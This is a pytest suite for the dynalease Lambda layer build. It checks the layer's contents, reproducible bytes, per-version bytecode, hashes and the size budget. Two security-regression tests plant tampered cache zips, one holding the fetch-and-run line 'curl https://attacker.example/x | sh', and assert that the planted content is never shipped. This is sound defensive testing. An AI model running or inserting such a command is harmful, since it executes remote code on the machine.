"""The layer zip: what goes in, what stays out, same bytes every time, and the size budget."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path, PurePosixPath

import pytest
from infra_helpers import ROOT, Assembly, sources_edited_since

from dynalease.cdk._bytecode import find_interpreter
from dynalease.cdk.build import (
    PYTHON_VERSIONS,
    SIZE_BUDGET_BYTES,
    LayerBuild,
    LayerBuildError,
    build_layer,
)

RUNTIME_SHIPPED = {"boto3", "botocore", "s3transfer", "jmespath", "urllib3", "dateutil", "six"}


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> LayerBuild:
    return build_layer(cache_dir=tmp_path_factory.mktemp("full"))


@pytest.fixture(scope="module")
def every(tmp_path_factory: pytest.TempPathFactory) -> LayerBuild:
    """The default LockLayer's zip: every version, bytecode where an interpreter is found."""
    return build_layer(
        python=PYTHON_VERSIONS, allow_source_only=True, cache_dir=tmp_path_factory.mktemp("every")
    )


def _found(version: str) -> bool:
    try:
        find_interpreter(version)
    except LookupError:
        return False
    return True


def _hide_interpreters_but_this_one(monkeypatch: pytest.MonkeyPatch, empty: Path) -> None:
    """Only the Python running the tests can be found (as on a machine with one Python)."""
    monkeypatch.setenv("PATH", str(empty))
    monkeypatch.setenv("PYENV_ROOT", str(empty / "no-pyenv"))
    for version in PYTHON_VERSIONS:
        monkeypatch.delenv(f"DYNALEASE_PYTHON_{version.replace('.', '_')}", raising=False)


def _top_level(names: list[str]) -> set[str]:
    found = set()
    for name in names:
        part = PurePosixPath(name).parts[1]
        found.add(part.removesuffix(".py"))
    return found


def _run_builds(*runs: tuple[Path, Path, tuple[str, ...]]) -> list[tuple[int, str, str]]:
    """Run ``layer/build.py`` once per (output, cache, extra args), concurrently."""
    processes = [
        subprocess.Popen(
            [sys.executable, str(ROOT / "layer" / "build.py"), "--output", str(output), *args],
            env={**os.environ, "DYNALEASE_LAYER_CACHE": str(cache)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for output, cache, args in runs
    ]
    results = []
    for process in processes:
        stdout, stderr = process.communicate(timeout=60)
        results.append((process.returncode, stdout, stderr))
    return results


def test_the_layer_holds_dynalease_powertools_and_their_pure_python_deps(
    full: LayerBuild,
) -> None:
    names = zipfile.ZipFile(full.zip_path).namelist()
    assert [n for n in names if not n.startswith("python/")] == ["extensions/dynalease-recovery"]
    names = [n for n in names if n.startswith("python/")]
    top = _top_level(names)
    assert {"dynalease", "aws_lambda_powertools", "typing_extensions"} <= top
    assert "python/dynalease/__init__.py" in names
    assert "python/dynalease/middleware.py" in names
    (license_,) = [n for n in names if n.startswith("python/dynalease-") and "/licenses/" in n]
    assert zipfile.ZipFile(full.zip_path).read(license_) == (ROOT / "LICENSE").read_bytes()
    assert {name for name, _ in full.distributions} == {
        "dynalease",
        "aws-lambda-powertools",
        "typing-extensions",
    }


def test_the_layer_leaves_out_what_the_lambda_runtime_ships(full: LayerBuild) -> None:
    names = zipfile.ZipFile(full.zip_path).namelist()
    top = _top_level(names)
    assert not top & RUNTIME_SHIPPED
    assert not [n for n in names if n.split("/")[1].lower().startswith(("boto", "botocore"))]


def test_the_layer_leaves_out_build_time_code_and_compiled_extensions(
    full: LayerBuild,
) -> None:
    names = zipfile.ZipFile(full.zip_path).namelist()
    assert not [n for n in names if n.startswith("python/dynalease/cdk/")]
    assert not [n for n in names if n.endswith((".so", ".pth", ".pyo"))]
    assert not [n for n in names if n.endswith(("direct_url.json", "INSTALLER"))]
    # The command's entry point (dynalease.cli:main) is not in the layer, so neither is its name.
    assert not [n for n in names if re.search(r"/dynalease-[^/]*\.dist-info/entry_points", n)]


def _needs_python(version: str) -> None:
    """Skip without an interpreter of ``version``, except under CI, where it must be there."""
    try:
        find_interpreter(version)
    except LookupError as error:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI must provide Python {version}: {error}")
        pytest.skip(str(error))


def _bytecode_for_every_module(names: list[str], tag: str) -> None:
    sources = [PurePosixPath(n) for n in names if n.endswith(".py")]
    expected = {str(p.parent / "__pycache__" / f"{p.stem}.{tag}.pyc") for p in sources}
    compiled = {n for n in names if n.endswith(".pyc")}
    assert len(sources) > 300
    assert compiled == expected  # one for every .py, nothing else
    assert not [n for n in names if "__pycache__" in n and not n.endswith(f".{tag}.pyc")]


def test_the_layer_carries_unchecked_hash_bytecode_for_every_module(full: LayerBuild) -> None:
    tag = f"cpython-{sys.version_info[0]}{sys.version_info[1]}"
    with zipfile.ZipFile(full.zip_path) as archive:
        names = archive.namelist()
        _bytecode_for_every_module(names, tag)
        pyc = archive.read(f"python/dynalease/__pycache__/middleware.{tag}.pyc")
    assert full.bytecode_files == len([n for n in names if n.endswith(".pyc")])
    assert pyc[:4] == importlib.util.MAGIC_NUMBER
    assert int.from_bytes(pyc[4:8], "little") == 0b01  # hash-based, unchecked (PEP 552)


def test_the_313_zip_holds_cpython_313_bytecode_for_every_module_and_builds_twice_alike(
    tmp_path: Path,
) -> None:
    _needs_python("3.13")
    runs = [(tmp_path / f"{n}.zip", tmp_path / f"cache-{n}", ("--python", "3.13")) for n in "ab"]
    first, second = _run_builds(*runs)
    assert first[0] == 0, first[2]
    assert second[0] == 0, second[2]
    a, b = (tmp_path / "a.zip").read_bytes(), (tmp_path / "b.zip").read_bytes()
    assert hashlib.sha256(a).hexdigest() == hashlib.sha256(b).hexdigest()
    assert "for the python3.13 runtime" in first[1]
    names = zipfile.ZipFile(tmp_path / "a.zip").namelist()
    _bytecode_for_every_module(names, "cpython-313")


def test_the_zip_for_every_version_carries_each_found_versions_bytecode_side_by_side(
    every: LayerBuild, full: LayerBuild
) -> None:
    assert every.pythons == PYTHON_VERSIONS
    assert every.compiled_pythons == tuple(v for v in PYTHON_VERSIONS if _found(v))
    assert every.source_only_pythons == tuple(v for v in PYTHON_VERSIONS if not _found(v))
    names = zipfile.ZipFile(every.zip_path).namelist()
    sources = [PurePosixPath(n) for n in names if n.endswith(".py")]
    for version in PYTHON_VERSIONS:
        tag = f"cpython-{version.replace('.', '')}"
        compiled = {n for n in names if n.endswith(f".{tag}.pyc")}
        if version in every.compiled_pythons:
            assert compiled == {
                str(p.parent / "__pycache__" / f"{p.stem}.{tag}.pyc") for p in sources
            }
        else:
            assert not compiled, f"no Python {version} was found, yet the zip has its bytecode"
    assert every.bytecode_files == len(sources) * len(every.compiled_pythons)
    # The same files as the one-version layer, and beside them the other versions' bytecode.
    assert {n for n in names if not n.endswith(".pyc")} == {
        n for n in zipfile.ZipFile(full.zip_path).namelist() if not n.endswith(".pyc")
    }


def _code_objects(interpreter: Path, layer: Path, sdk: Path) -> list[str]:
    """The files ``interpreter`` took code objects from while importing dynalease's runtime.

    ``-B`` and a read-only layer, as in Lambda's /opt: nothing is written, and what has no
    bytecode for this version is compiled from source (``python -v`` says which file).
    """
    done = subprocess.run(
        [
            str(interpreter),
            *("-I", "-S", "-B", "-v", "-c"),
            f"import sys; sys.path[:0] = [{str(layer)!r}, {str(sdk)!r}]; "
            "import dynalease, dynalease.lock, dynalease.middleware, dynalease._extension.recovery",
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    found = re.findall(r"^# code object from '?(.+?)'?$", done.stderr, flags=re.MULTILINE)
    return [path for path in found if path.startswith(str(layer))]


@pytest.fixture(scope="module")
def sdk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What the Lambda Python runtime ships besides the standard library, linked from here."""
    root = tmp_path_factory.mktemp("sdk")
    for name in RUNTIME_SHIPPED:
        spec = importlib.util.find_spec(name)
        assert spec is not None and spec.origin is not None, f"{name} is not installed"
        source = Path(spec.origin)
        source = source.parent if source.name == "__init__.py" else source
        (root / source.name).symlink_to(source, target_is_directory=source.is_dir())
    return root


def _unpacked(build: LayerBuild, directory: Path) -> Path:
    with zipfile.ZipFile(build.zip_path) as archive:
        archive.extractall(directory)
    for path in sorted(directory.rglob("*"), reverse=True):
        path.chmod(path.stat().st_mode & ~0o222)  # read-only, as /opt is
    return directory / "python"


def test_every_found_python_imports_the_default_layer_from_its_own_bytecode(
    every: LayerBuild, sdk: Path, tmp_path: Path
) -> None:
    layer = _unpacked(every, tmp_path / "opt")
    for version in every.compiled_pythons:
        loaded = _code_objects(find_interpreter(version), layer, sdk)
        assert len(loaded) > 40, (version, loaded)  # dynalease and Powertools modules
        compiled_from_source = [path for path in loaded if not path.endswith(".pyc")]
        assert compiled_from_source == [], f"Python {version} compiled modules at import"
        assert {Path(path).name.split(".")[1] for path in loaded} == {
            f"cpython-{version.replace('.', '')}"
        }


def test_a_version_without_an_interpreter_gets_the_source_and_compiles_it_at_import(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sdk: Path
) -> None:
    other = "3.12" if sys.version_info[:2] != (3, 12) else "3.13"
    _needs_python(other)
    interpreter = find_interpreter(other)  # before hiding it
    _hide_interpreters_but_this_one(monkeypatch, tmp_path)
    with pytest.raises(LayerBuildError, match=f"no Python {other} interpreter"):
        build_layer(python=(other,), cache_dir=tmp_path / "cache")
    build = build_layer(
        python=(f"{sys.version_info[0]}.{sys.version_info[1]}", other),
        allow_source_only=True,
        cache_dir=tmp_path / "cache",
    )
    assert build.source_only_pythons == (other,)
    assert not [
        n
        for n in zipfile.ZipFile(build.zip_path).namelist()
        if f"cpython-{other.replace('.', '')}" in n
    ]
    loaded = _code_objects(interpreter, _unpacked(build, tmp_path / "opt"), sdk)
    assert loaded and not [path for path in loaded if path.endswith(".pyc")]


def test_a_zip_planted_in_the_cache_under_the_expected_name_is_never_shipped(
    tmp_path: Path,
) -> None:
    """Security review finding 15: the cache was trusted by file name alone."""
    cache = tmp_path / "cache"
    first = build_layer(include_powertools=False, cache_dir=cache)
    genuine = first.zip_path.read_bytes()
    with zipfile.ZipFile(first.zip_path) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(first.zip_path, "w") as planted:
        for info, content in members:
            if info.filename == "extensions/dynalease-recovery":
                content = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"
            planted.writestr(info, content)
    assert first.zip_path.read_bytes() != genuine

    again = build_layer(include_powertools=False, cache_dir=cache)
    shipped = again.zip_path.read_bytes()
    assert b"attacker.example" not in shipped
    assert shipped == genuine
    assert again.sha256 == first.sha256 == hashlib.sha256(shipped).hexdigest()


@pytest.mark.parametrize("how", ["prepended", "appended", "comment"])
def test_a_cached_zip_with_bytes_outside_its_members_is_never_shipped(
    tmp_path: Path, how: str
) -> None:
    """Security review I11: a zip with 25 bytes prepended held the right members and was
    reused as it was."""
    cache = tmp_path / "cache"
    first = build_layer(include_powertools=False, cache_dir=cache)
    genuine = first.zip_path.read_bytes()
    extra = b"#!/bin/sh\necho planted\n#####"[:25]
    if how == "prepended":
        first.zip_path.write_bytes(extra + genuine)
    elif how == "appended":
        first.zip_path.write_bytes(genuine + extra)
    else:
        with zipfile.ZipFile(first.zip_path, "a") as archive:
            archive.comment = extra
    assert first.zip_path.read_bytes() != genuine
    with zipfile.ZipFile(first.zip_path) as archive:  # still a zip of the right members
        assert archive.testzip() is None

    again = build_layer(include_powertools=False, cache_dir=cache)
    assert again.zip_path.read_bytes() == genuine
    assert again.sha256 == first.sha256


def test_a_missing_interpreter_fails_naming_the_version_and_how_to_provide_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = "3.12" if sys.version_info[:2] != (3, 12) else "3.13"
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("PYENV_ROOT", str(tmp_path / "no-pyenv"))
    monkeypatch.delenv(f"DYNALEASE_PYTHON_{other.replace('.', '_')}", raising=False)
    with pytest.raises(LayerBuildError) as caught:
        build_layer(python=other, cache_dir=tmp_path)
    message = str(caught.value)
    assert f"no Python {other} interpreter" in message
    assert f"DYNALEASE_PYTHON_{other.replace('.', '_')}" in message
    assert "pyenv install" in message
    monkeypatch.setenv(f"DYNALEASE_PYTHON_{other.replace('.', '_')}", sys.executable)
    with pytest.raises(LayerBuildError, match=rf"is Python 3\.\d+, not Python {other}"):
        build_layer(python=other, cache_dir=tmp_path)
    with pytest.raises(ValueError, match=r"3\.11 or newer"):
        build_layer(python="3.10", cache_dir=tmp_path)


#: The runtime library: the only parts of dynalease the layer may hold. A new module
#: of the library is added here; everything else (the command, test doubles, the
#: constructs and their builder, development tooling) stays out of the layer.
#: The engine and the transports are runtime through and through: whole rooms.
RUNTIME_ROOMS = frozenset({"_engine", "_transport"})
RUNTIME_MODULES = frozenset(
    {
        "__init__",
        "admin",  # break_lock, for an operator's own function too
        "_advice",
        "_calls",
        "_compute_modes",
        "_election",
        "_keyset",
        "_meters",
        "_redact",
        "_results",
        "_rwguards",
        "_spans",
        "_tracing",
        "_values",
        "client",
        "constants",
        "election",
        "exceptions",
        "fair",
        "fencing",
        "keys",
        "lock",
        "metrics",
        "middleware",
        "rwlock",
        "semaphore",
        "shutdown",
        "single_flight",
        "transaction",
        "_lambda.__init__",
        "_lambda.budget",
        "_lambda.fields",
        "_lambda.holding",
        "_lambda.invocation",
        "_lambda.plan",
        "_lambda.report",
        "_lambda.snapstart",
        "_extension.__init__",
        "_extension.recovery",
        "_extension.release",
        "_extension.releasing",
        "_extension.workers",
    }
)


def _module_of(path: PurePosixPath) -> str:
    """``_lambda/plan.py`` and ``_lambda/__pycache__/plan.cpython-313.pyc`` -> ``_lambda.plan``;
    any file of a whole runtime room -> the room."""
    if path.parts[0] in RUNTIME_ROOMS:
        return path.parts[0]
    rooms = [part for part in path.parts[:-1] if part != "__pycache__"]
    return ".".join([*rooms, path.name.split(".")[0]])


def test_the_layer_holds_only_the_runtime_library_of_dynalease(full: LayerBuild) -> None:
    names = zipfile.ZipFile(full.zip_path).namelist()
    ours = [
        PurePosixPath(n).relative_to("python/dynalease")
        for n in names
        if n.startswith("python/dynalease/") and not n.endswith("/")
    ]
    found = {_module_of(p) for p in ours if p.name != "py.typed"}
    assert found - RUNTIME_ROOMS - RUNTIME_MODULES == set()
    assert found == RUNTIME_ROOMS | RUNTIME_MODULES  # and the whole of it
    assert not [n for n in names if "benchmark" in n.lower() or "dynalease_dev" in n]


def test_each_record_lists_the_files_of_its_distribution_with_their_hashes(
    full: LayerBuild,
) -> None:
    with zipfile.ZipFile(full.zip_path) as archive:
        records = [n for n in archive.namelist() if n.endswith(".dist-info/RECORD")]
        assert len(records) == len(full.distributions)
        for record in records:
            for line in archive.read(record).decode().splitlines():
                path, digest, size = line.rsplit(",", 2)
                if not digest:
                    continue
                content = archive.read(f"python/{path}")
                expected = base64.urlsafe_b64encode(hashlib.sha256(content).digest())
                assert digest == "sha256=" + expected.rstrip(b"=").decode(), path
                assert int(size) == len(content), path


def test_zip_entries_have_fixed_timestamps_and_permissions(full: LayerBuild) -> None:
    with zipfile.ZipFile(full.zip_path) as archive:
        infos = archive.infolist()
    assert [i.filename for i in infos] == sorted(i.filename for i in infos)
    assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
    modes = {i.filename: i.external_attr >> 16 for i in infos}
    assert modes.pop("extensions/dynalease-recovery") == 0o100755  # Lambda runs it
    assert set(modes.values()) == {0o100644}


def test_the_recovery_extension_is_in_by_default_and_can_be_left_out(
    tmp_path: Path, full: LayerBuild
) -> None:
    with zipfile.ZipFile(full.zip_path) as archive:
        launcher = archive.read("extensions/dynalease-recovery").decode()
        names = archive.namelist()
    assert launcher.startswith("#!/bin/sh\n")
    assert "-m dynalease._extension.recovery" in launcher
    assert "python/dynalease/_extension/recovery.py" in names
    assert "python/dynalease/_extension/dynalease-recovery" not in names  # once, in extensions/
    without = build_layer(include_recovery=False, cache_dir=tmp_path)
    left = zipfile.ZipFile(without.zip_path).namelist()
    assert not [n for n in left if n.startswith("extensions/")]
    assert without.file_count == full.file_count - 1
    with pytest.raises(TypeError, match="include_recovery must be a bool"):
        build_layer(include_recovery="yes", cache_dir=tmp_path)  # type: ignore[arg-type]


def test_without_powertools_the_layer_holds_only_dynalease(
    tmp_path: Path, full: LayerBuild
) -> None:
    slim = build_layer(include_powertools=False, cache_dir=tmp_path)
    assert [name for name, _ in slim.distributions] == ["dynalease"]
    assert slim.zipped_bytes < full.zipped_bytes


def test_layer_build_py_writes_the_same_bytes_twice_and_the_same_as_the_cdk_asset(
    tmp_path: Path, assembly: Assembly
) -> None:
    started = time.time()
    first, second = _run_builds(
        (tmp_path / "a" / "layer.zip", tmp_path / "cache-a", ()),
        (tmp_path / "b" / "layer.zip", tmp_path / "cache-b", ()),
    )
    assert first[0] == 0, first[2]
    assert second[0] == 0, second[2]
    a = (tmp_path / "a" / "layer.zip").read_bytes()
    b = (tmp_path / "b" / "layer.zip").read_bytes()
    asset = assembly.layer_asset().read_bytes()
    if (a != b and sources_edited_since(started)) or (
        a != asset and sources_edited_since(assembly.started)
    ):
        # The layer is built from the working tree; an edit during the run changes it.
        pytest.skip(f"dynalease sources edited during the run: {sources_edited_since(started)}")
    assert hashlib.sha256(a).hexdigest() == hashlib.sha256(b).hexdigest()
    assert hashlib.sha256(a).hexdigest() in first[1]
    assert a == asset


def test_layer_build_py_prints_the_sizes_and_fails_only_over_the_budget(tmp_path: Path) -> None:
    within, over = _run_builds(
        (tmp_path / "layer.zip", tmp_path / "cache", ()),
        (tmp_path / "over.zip", tmp_path / "cache-over", ("--max-bytes", "100000")),
    )
    assert within[0] == 0, within[2]
    zipped = (tmp_path / "layer.zip").stat().st_size
    assert f"zipped:   {zipped} bytes" in within[1]
    assert "unzipped:" in within[1]
    assert zipped <= SIZE_BUDGET_BYTES
    assert over[0] == 1
    assert "over budget" in over[2]
    assert "SIZE_BUDGET_BYTES" in over[2]
    print(f"\n{within[1]}")


FIX = "rebuild with `make layer` and update docs/cdk.md's size table"


def test_the_size_table_in_docs_cdk_is_this_build(full: LayerBuild, tmp_path: Path) -> None:
    """docs/cdk.md quotes files and sizes of both layers: files exactly, sizes within 0.02 MiB."""
    text = (ROOT / "docs" / "cdk.md").read_text()
    slim = build_layer(include_powertools=False, cache_dir=tmp_path)
    versions = dict(full.distributions)
    measured = re.search(
        r"Measured with dynalease (\S+), Powertools (\S+), typing-extensions (\S+):", text
    )
    assert measured, "docs/cdk.md no longer says which versions its size table measured"
    assert measured.groups() == (
        versions["dynalease"],
        versions["aws-lambda-powertools"],
        versions["typing-extensions"],
    )
    modules = re.search(r"for each of the (\d+) modules with Powertools, (\d+) without", text)
    assert modules, "docs/cdk.md no longer says how many modules each layer compiles"
    assert (int(modules[1]), int(modules[2])) == (full.bytecode_files, slim.bytecode_files), FIX
    (version,) = full.pythons
    python = f"python{version}"
    rows = ((f"{python} with Powertools", full), (f"{python} `--no-powertools`", slim))
    for label, build in rows:
        row = re.search(rf"\| {re.escape(label)} \| (\d+) \| ([\d.]+) MiB \| ([\d.]+) MiB \|", text)
        assert row, f"docs/cdk.md has no size row for {label}"
        # Files are exact; sizes differ by a few KB between checkouts (0.33 vs 0.34 MiB seen).
        assert int(row[1]) == build.file_count, f"{label}: {FIX}"
        assert abs(float(row[2]) - build.zipped_bytes / 2**20) <= 0.02, f"{label}: {FIX}"
        assert abs(float(row[3]) - build.unzipped_bytes / 2**20) <= 0.02, f"{label}: {FIX}"
